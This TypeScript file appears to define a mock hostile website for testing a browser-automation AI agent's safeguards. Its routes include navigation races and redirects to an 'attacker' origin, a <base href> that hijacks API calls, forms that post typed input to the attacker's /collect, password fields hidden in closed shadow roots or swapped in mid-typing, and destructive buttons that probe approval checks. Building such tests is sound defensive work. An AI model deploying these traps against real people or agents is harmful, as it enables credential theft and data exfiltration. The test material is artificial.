// Pages about navigation and effects: bouncing and flashing pages for races, redirects and empty
// responses for error texts, <base href> and redirecting APIs for fetch_in_page, links and forms
// that reach the attacker, password traps, forms and destructive buttons for approvals, and a
// page that guards its unload.
import { type Route, at, attacker, attr, doc, js, param, redirect } from "./html.ts";
import { MARK } from "./secrets.ts";

/**
 * A page that leaves for the attacker after `ms`; the attacker's page comes straight back. The first
 * visit waits longer, so the agent's navigate lands on A before the bouncing starts.
 */
const bounce: Route = (c) => {
  const back = new URL(c.url.href);
  back.searchParams.set("again", "1");
  back.searchParams.delete("gate");
  const ms = param(c, "ms", "40");
  const to = at(c, attacker(c), "/catch", { bounce: back.href, ms });
  const leave = `location.replace(${js(to)})`;
  const start = param(c, "again") ? `setTimeout(function(){${leave};},+${js(ms)});` : afterGate(c, leave, "700");
  return doc(c, { body: `<h1 style="height:90vh">Bouncing ${MARK.a}</h1><script>${start}</script>` });
};

/**
 * Script that runs `code` `ms` after the page loads or, with `gate`, `ms` after the test opens that
 * gate (AttackSite.openGate), so a slow machine cannot make the page leave before the agent's
 * navigate has landed and its call has begun.
 */
function afterGate(c: Parameters<Route>[0], code: string, dflt: string): string {
  const later = `setTimeout(function(){${code};},+${js(param(c, "ms", dflt))})`;
  const gate = param(c, "gate");
  if (!gate) return `${later};`;
  return `(function poll(){fetch("/gate?k="+encodeURIComponent(${js(gate)})).then(function(r){return r.text();}).then(function(t){if(t==="go")${later};else setTimeout(poll,30);},function(){setTimeout(poll,30);});})();`;
}

/** The attacker's full-viewport frame shown for a moment every `ms`. */
const flash: Route = (c) =>
  doc(c, {
    body: `<h1 style="height:90vh">Flashing</h1><iframe id="evil" title="Embedded" src="${attr(at(c, attacker(c), "/catch"))}"
style="position:fixed;left:0;top:0;width:100vw;height:100vh;border:0;visibility:hidden;z-index:9"></iframe>
<script>var f=document.getElementById("evil");setInterval(function(){f.style.visibility=f.style.visibility==="hidden"?"visible":"hidden";},+${js(param(c, "ms", "15"))});</script>`,
  });

/** A page that leaves for the attacker `ms` after it loads, or after its gate opens (afterGate). */
const navLater: Route = (c) =>
  doc(c, { body: `<h1>Soon elsewhere</h1><script>${afterGate(c, `location.href=${js(at(c, attacker(c), "/catch"))}`, "300")}</script>` });

/** "go" once the test has opened the gate `k` (AttackSite.openGate), else "wait". */
const gateRoute: Route = (c) => ({ type: "text/plain", body: c.counters.get(`gate:${param(c, "k")}`) ? "go" : "wait" });

/** A field whose keys, after `after` of them, send the page to the attacker. */
const navOnKey: Route = (c) =>
  doc(c, {
    body: `<input id="f" aria-label="Field"><script>var n=0;document.getElementById("f").addEventListener("keydown",function(){
if(++n===+${js(param(c, "after", "2"))})location.href=${js(at(c, attacker(c), "/catch"))};});</script>`,
  });

/** A → (status) → the attacker's `path` (default /empty), keeping the other query switches. */
const redirTo: Route = (c) => {
  const q: Record<string, string> = {};
  for (const [k, v] of c.url.searchParams) if (!["x", "code", "path", "t"].includes(k)) q[k] = v;
  return redirect(at(c, attacker(c), param(c, "path", "/empty"), q), Number(param(c, "code", "302")));
};

/** The attacker's answers that carry nothing: 204, an empty 200, a dropped connection, a 500, a load that never ends. */
const empty: Route = (c) => {
  switch (param(c, "kind", "204")) {
    case "blank":
      return { status: 200, body: "" };
    case "reset":
      return { destroy: true };
    case "500":
      return { status: 500, body: `<title>${MARK[c.role]}</title><p>${MARK[c.role]} error page</p>` };
    case "hang":
      return { hang: true, body: `<!doctype html><title>${MARK[c.role]}</title><p>${MARK[c.role]} partial` };
    default:
      return { status: 204 };
  }
};

/** A the first time, a redirect to the attacker every time after (for reload). */
const flip: Route = (c) => {
  const k = `flip:${param(c, "k")}`;
  const n = (c.counters.get(k) ?? 0) + 1;
  c.counters.set(k, n);
  if (n === 1) return doc(c, { body: `<h1>First visit</h1>` });
  return redirect(at(c, attacker(c), "/catch"));
};

/** Leaves a history entry on the attacker: A → attacker (assign) → A?v=1. */
const hist: Route = (c) => {
  if (param(c, "v")) return doc(c, { body: `<h1>Back home</h1>` });
  const back = new URL(c.url.href);
  back.searchParams.set("v", "1");
  const to = at(c, attacker(c), "/catch", { bounce: back.href, ms: 30, nav: "assign", once: 1 });
  return doc(c, { body: `<h1>History</h1><script>setTimeout(function(){location.assign(${js(to)});},400);</script>` });
};

/** A page whose <base href> points at the attacker (toggle: flips between A and the attacker). */
const base: Route = (c) => {
  const b = at(c, attacker(c), "/api/");
  const toggle = param(c, "toggle")
    ? `<script>var bs=document.querySelector("base");var A=${js(`${c.origin.a}/api/`)},B=${js(b)};setInterval(function(){bs.href=bs.href===A?B:A;},1);</script>`
    : "";
  return doc(c, { head: `<base href="${attr(b)}">`, body: `<h1>Base</h1>${toggle}` });
};

/** Any /api/… answer names its origin; the request (and its body) is in the log. */
const api: Route = (c) => ({ status: 200, type: "text/plain", body: `${MARK[c.role]} api answer` });

/** A → A … → the attacker (n hops on A first), with a chosen status. */
const hop: Route = (c) => {
  const n = Number(param(c, "n", "1"));
  if (n > 1) {
    const u = new URL(c.url.href);
    u.searchParams.set("n", String(n - 1));
    return redirect(u.pathname + u.search, Number(param(c, "code", "302")));
  }
  const to = param(c, "to", "b") === "a" ? at(c, "a", param(c, "path", "/api/sink")) : at(c, param(c, "to") === "c" ? "c" : "b", param(c, "path", "/api/sink"));
  return redirect(to, Number(param(c, "code", "302")));
};

/** Links and forms that reach the attacker in every way a page can. */
const links: Route = (c) => {
  const x = attacker(c);
  const bu = at(c, x, "/catch", param(c, "navopener") ? { navopener: 1 } : {});
  const a = (id: string, href: string, text: string, extra = "") => `<p><a id="${id}" href="${attr(href)}"${extra}>${text}</a></p>`;
  return doc(c, {
    body: `<h1>Links</h1>
${a("to-b", bu, "Plain link")}
${a("to-b-blank", bu, "New tab link", ' target="_blank"')}
${a("to-b-noopener", bu, "Noopener link", ' target="_blank" rel="noopener"')}
${a("js-nav", `javascript:location.href=${JSON.stringify(bu).replace(/"/g, "'")}`, "Script link")}
${a("js-open", `javascript:void(window.open(${JSON.stringify(bu).replace(/"/g, "'")}))`, "Script popup link")}
${a("to-leaf", "/nest-leaf?from=links", "Leaf link")}
${a("to-leaf-blank", "/nest-leaf?from=links-blank", "Leaf new tab link", ' target="_blank"')}
${a("ping", "/nest-leaf?from=ping", "Ping link", ` ping="${attr(at(c, x, "/ping"))}"`)}
${a("meta", `/meta?x=${x}`, "Meta link")}
${a("to-204", at(c, x, "/empty", { kind: "204" }), "Empty link")}
${a("via-redir", `/redir-to?x=${x}&path=/catch`, "Redirect link")}
<button id="open-b" onclick="window.open(${attr(js(bu))})">Open popup</button>
<form id="fb" action="${attr(at(c, x, "/collect"))}" method="post"><input id="fq" name="q" aria-label="Remote query"><button id="fbsub">Send remote</button></form>
<form id="ft" action="${attr(at(c, x, "/collect"))}" method="post" target="evilframe"><input id="ftq" name="q" aria-label="Framed query"><button id="ftsub">Send framed</button></form>
<iframe name="evilframe" title="target" src="${attr(at(c, x, "/catch"))}" style="width:200px;height:60px"></iframe>`,
  });
};

const meta: Route = (c) =>
  doc(c, { head: `<meta http-equiv="refresh" content="${Number(param(c, "delay", "0"))};url=${attr(at(c, attacker(c), "/catch"))}">`, body: `<h1>Refreshing</h1>` });

/** Forms and destructive buttons reached every way a keyboard or pointer can. */
const form: Route = (c) =>
  doc(c, {
    body: `<h1>Order</h1>
<form id="f" action="/done" method="get"><input id="q" name="q" aria-label="Query"><textarea id="notes" name="notes" aria-label="Notes"></textarea>
<button id="submit" type="submit">Place order</button><button id="inner-sub" type="submit"><span id="inner-span">Go inner</span></button>
<input type="image" id="img-sub" alt="Image submit" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" style="width:40px;height:20px;border:1px solid">
<select id="sel" aria-label="Choice" onchange="this.form.requestSubmit()"><option>one</option><option>two</option></select>
<button id="rs" type="button" onclick="this.form.requestSubmit()">Request submit</button></form>
<label id="lbl" for="submit">Order via label</label>
<form id="f2" action="/done2" method="get"><input id="solo" name="solo" aria-label="Solo"></form>
<form id="f3" action="/done3" method="get" target="_blank"><input id="nt" name="nt" aria-label="New tab query"><button id="ntsub">Open order</button></form>
<input id="pre" aria-label="Before delete"><button id="danger" data-destructive onclick="__bk.send('destroyed','danger');document.getElementById('out').textContent='deleted'">Delete account</button>
<div data-destructive><button id="danger-inner" onclick="__bk.send('destroyed','inner')">Remove item</button></div>
<label id="dlbl" for="danger">Delete via label</label>
<p id="out"></p>`,
  });
const done: Route = (c) => doc(c, { title: "Done", body: `<h1>Order placed</h1>` });

/** Password traps: a closed shadow root, focus moved mid-typing or on focus, a field that turns into a password. */
const pw: Route = (c) => {
  const kind = param(c, "kind", "closed");
  const focus = param(c, "focus") ? "pw.focus();" : "";
  const expose = `window.__pwv=function(){return pw.value;};pw.addEventListener("input",function(){__bk.send("pw-input",pw.value.length);});`;
  const user = param(c, "nouser") ? "" : `<input id="user" aria-label="User name">`;
  const field = `<input id="pw" type="password" aria-label="Password">`;
  switch (kind) {
    case "move":
      return doc(c, { body: `${user}${field}<script>var pw=document.getElementById("pw");${expose}var n=0;document.getElementById("user").addEventListener("keydown",function(){if(++n===+${js(param(c, "after", "2"))})pw.focus();});</script>` });
    case "redirect":
      return doc(c, { body: `${user}${field}<script>var pw=document.getElementById("pw");${expose}document.getElementById("user").addEventListener("focus",function(){pw.focus();});</script>` });
    case "toggle":
      return doc(c, { body: `<input id="pw" aria-label="Secret code"><script>var pw=document.getElementById("pw");${expose}pw.addEventListener("keydown",function(){pw.type="password";});</script>` });
    case "turn-on-focus":
      return doc(c, { body: `<input id="pw" aria-label="Secret code"><script>var pw=document.getElementById("pw");${expose}pw.addEventListener("focus",function(){pw.type="password";});</script>` });
    case "editor-host":
      // An editable host whose focus goes on to a password field in its closed shadow root.
      return doc(c, {
        body: `<div id="h" contenteditable="true" aria-label="Notes"></div><script>var cl=document.getElementById("h").attachShadow({mode:"closed",delegatesFocus:true});
cl.innerHTML='<input id="pw" type="password" style="width:200px;height:30px">';var pw=cl.getElementById("pw");${expose}</script>`,
      });
    case "nested":
      return doc(c, {
        body: `${user}<div id="h"></div><script>var o=document.getElementById("h").attachShadow({mode:"open"});o.innerHTML='<div id="h2"></div>';
var cl=o.getElementById("h2").attachShadow({mode:"closed"});cl.innerHTML='<input id="pw" type="password" style="width:200px;height:30px">';var pw=cl.getElementById("pw");${expose}${focus}</script>`,
      });
    case "frame":
      return doc(c, { body: `${user}<iframe id="inner" title="inner" src="/pw?kind=closed&nouser=1" style="width:420px;height:120px"></iframe>` });
    default:
      return doc(c, {
        body: `${user}<div id="h" style="display:inline-block"></div><script>var cl=document.getElementById("h").attachShadow({mode:"closed"});
cl.innerHTML='<input id="pw" type="password" style="width:200px;height:30px">';var pw=cl.getElementById("pw");${expose}${focus}</script>`,
      });
  }
};

/** An A field and the attacker's frame holding a password field (Tab goes there next). */
const pwFrame: Route = (c) =>
  doc(c, { body: `<input id="user" aria-label="User name"><iframe id="evil" title="Embedded" src="${attr(at(c, attacker(c), "/catch", { pw: 1 }))}" style="width:300px;height:120px"></iframe>` });

/** A page that asks before it is left. */
const unload: Route = (c) =>
  doc(c, {
    body: `<button id="b" onclick="__bk.send('a-b')">Button</button><input id="f" aria-label="Field">
<script>addEventListener("beforeunload",function(e){e.preventDefault();e.returnValue="stay";});</script>`,
  });

export const NAV_ROUTES: Record<string, Route> = {
  "/bounce": bounce,
  "/flash": flash,
  "/nav-later": navLater,
  "/gate": gateRoute,
  "/nav-on-key": navOnKey,
  "/redir-to": redirTo,
  "/empty": empty,
  "/flip": flip,
  "/hist": hist,
  "/base": base,
  "/api/": api,
  "/hop": hop,
  "/links": links,
  "/meta": meta,
  "/form": form,
  "/done": done,
  "/done2": done,
  "/done3": done,
  "/pw": pw,
  "/pw-frame": pwFrame,
  "/unload": unload,
};
